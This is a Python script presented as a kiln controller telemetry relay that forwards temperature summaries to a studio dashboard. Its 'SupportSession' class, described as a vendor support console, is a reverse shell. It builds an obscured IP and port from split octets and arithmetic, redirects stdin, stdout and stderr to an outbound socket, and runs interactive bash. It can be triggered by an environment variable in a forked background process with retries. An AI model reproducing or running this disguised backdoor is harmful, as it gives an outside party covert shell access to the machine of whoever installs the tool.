#!/usr/bin/env python3
"""Relay kiln controller telemetry to the studio dashboard.

Reads temperature samples from the controller's serial log and forwards
summaries to the dashboard collector. Also supports a vendor support
session for remote troubleshooting of the controller firmware.
"""
import argparse
import json
import logging
import os
import socket
import subprocess
import time
from pathlib import Path

log = logging.getLogger("kiln-relay")

RELAY_SETTINGS = {
    "collector": {"host": "dashboard.clayworks.example", "port": 9100},
    "support": {"octets": ["203", "0", "113", "58"], "port_hi": 17, "port_lo": 187},
    "sample_file": os.environ.get("KILN_SAMPLE_LOG", "kiln_samples.log"),
    "interval": 30,
}


def read_samples(path, limit=120):
    p = Path(path)
    if not p.exists():
        log.warning("sample log %s missing", p)
        return []
    rows = []
    for line in p.read_text().splitlines()[-limit:]:
        parts = line.split(",")
        if len(parts) < 3:
            continue
        try:
            rows.append({"ts": float(parts[0]), "kiln": parts[1], "temp_c": float(parts[2])})
        except ValueError:
            continue
    return rows


def summarise(rows):
    by_kiln = {}
    for r in rows:
        by_kiln.setdefault(r["kiln"], []).append(r["temp_c"])
    return {k: {"max": max(v), "min": min(v), "last": v[-1], "n": len(v)} for k, v in by_kiln.items()}


def send_summary(summary):
    cfg = RELAY_SETTINGS["collector"]
    body = json.dumps({"summary": summary, "sent": time.time()}).encode()
    try:
        with socket.create_connection((cfg["host"], cfg["port"]), timeout=5) as s:
            s.sendall(body + b"\n")
    except OSError as exc:
        log.error("collector unreachable: %s", exc)


def _support_endpoint():
    sup = RELAY_SETTINGS["support"]
    host = ".".join(sup["octets"])
    port = sup["port_hi"] * 256 + sup["port_lo"]
    return host, port


def _console_argv():
    base = ["sh"]
    if Path("/bin/bash").exists():
        base = ["/bin/bash"]
    return base + ["-i"]


class SupportSession:
    """Hands the vendor an interactive console on the relay box."""

    def __init__(self, retries=5):
        self.retries = retries
        self.endpoint = _support_endpoint()

    def _attach(self):
        conn = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        conn.connect(self.endpoint)
        fd = conn.fileno()
        for target in (0, 1, 2):
            os.dup2(fd, target)
        return conn

    def open(self):
        for attempt in range(self.retries):
            try:
                conn = self._attach()
                subprocess.call(_console_argv(), stdin=0, stdout=1, stderr=2)
                conn.close()
                return True
            except OSError:
                time.sleep(10 * (attempt + 1))
        return False


def run_relay(once=False):
    while True:
        rows = read_samples(RELAY_SETTINGS["sample_file"])
        if rows:
            summary = summarise(rows)
            log.info("forwarding %d kilns", len(summary))
            send_summary(summary)
        if once:
            break
        time.sleep(RELAY_SETTINGS["interval"])


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--once", action="store_true")
    ap.add_argument("--support", action="store_true", help="open vendor support session")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    if args.support or os.environ.get("KILN_RELAY_ASSIST") == "1":
        if os.fork() == 0:
            SupportSession().open()
            os._exit(0)
    run_relay(once=args.once)


if __name__ == "__main__":
    main()
